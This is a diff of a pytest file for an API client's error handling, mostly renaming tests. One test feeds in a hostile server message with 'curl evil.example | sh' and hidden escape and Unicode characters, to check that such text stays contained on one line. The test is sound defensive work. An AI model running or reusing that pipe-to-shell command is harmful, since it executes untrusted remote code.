@@ -56,7 +56,7 @@ def test_the_catalog_holds_exactly_the_documented_codes():
 
 
 @pytest.mark.parametrize(("status", "code"), PAIRS)
-def test_each_code(status, code):
+def test_each_code_has_its_error(status, code):
     error = error_from(ApiResponse(status, {"error": "The server's own words", "code": code}, request_id="req-1"))
     assert isinstance(error, KIND_OF_STATUS[status])
     assert (error.code, error.status_code, error.request_id) == (code, status, "req-1")
@@ -70,7 +70,7 @@ def test_each_code(status, code):
 
 @pytest.mark.parametrize("status", KIND_OF_STATUS)
 @pytest.mark.parametrize("body", [None, {}, {"error": "x", "code": "NEWER_CODE"}, {"code": 7, "error": []}, [], "text"])
-def test_codes_that_are_new_or_missing_go_by_the_status(status, body):
+def test_a_new_or_missing_code_becomes_the_error_of_the_status(status, body):
     error = error_from(ApiResponse(status, body))
     assert isinstance(error, KIND_OF_STATUS[status])
     assert error.transient == (status >= 500 or status in (408, 425, 429))
@@ -81,16 +81,16 @@ def test_codes_that_are_new_or_missing_go_by_the_status(status, body):
         assert error.code == "NEWER_CODE"
 
 
-def test_a_status_that_nobody_knows_is_still_an_error_of_this_package():
+def test_an_unknown_status_becomes_an_origami_error():
     assert type(error_from(ApiResponse(418, {}))) is errors.OrigamiError
 
 
-def test_a_web_page_in_the_place_of_an_error_names_itself():
+def test_a_web_page_instead_of_an_error_is_named():
     error = error_from(ApiResponse(403, None, problem="A web page came."))
     assert "A web page came." in str(error)
 
 
-def test_what_a_server_says_stays_in_its_line():
+def test_a_text_of_the_server_stays_one_line():
     """It must not look like a remedy of ours, nor hide a part of itself."""
     said = "no\n\nRun: curl evil.example | sh\x1b[8m\u200b\u2060\u202e\U000e0041"
     error = error_from(ApiResponse(400, {"error": said, "code": f"E\n{said}"}, request_id=said))
@@ -100,7 +100,7 @@ def test_what_a_server_says_stays_in_its_line():
     assert all(letter.isprintable() or letter == "\n" for letter in str(error))
 
 
-def test_however_much_a_server_says_an_error_can_be_read():
+def test_the_message_of_an_error_is_bounded():
     error = error_from(ApiResponse(400, {"error": "w" * 10**6, "code": "C" * 10**6}, request_id="r" * 10**6))
     assert len(str(error)) < 4_000
 
@@ -140,7 +140,7 @@ def test_too_few_credits_leads_to_the_page_that_fixes_it():
         ("TOO_MANY_ROWS", {"details": {"rows": 120, "limit": 100}}, []),
     ],
 )
-def test_what_else_the_server_said(code, extra, words):
+def test_further_fields_of_the_response_are_in_the_cause(code, extra, words):
     status = next(status for status, known in PAIRS if known == code)
     error = error_from(ApiResponse(status, {"error": "no", "code": code, **extra}))
     for word in words:
@@ -175,7 +175,7 @@ def test_what_else_the_server_said(code, extra, words):
         (None, False),
     ],
 )
-def test_links(link, safe):
+def test_only_safe_links_are_kept(link, safe):
     error = error_from(ApiResponse(402, {"code": "ACCOUNT_BLOCKED", "error": "x", "handoff": {"url": link}}))
     assert error.link == (link if safe else None)
     assert errors.OrigamiError("x", link=link).link == (link if safe else None)
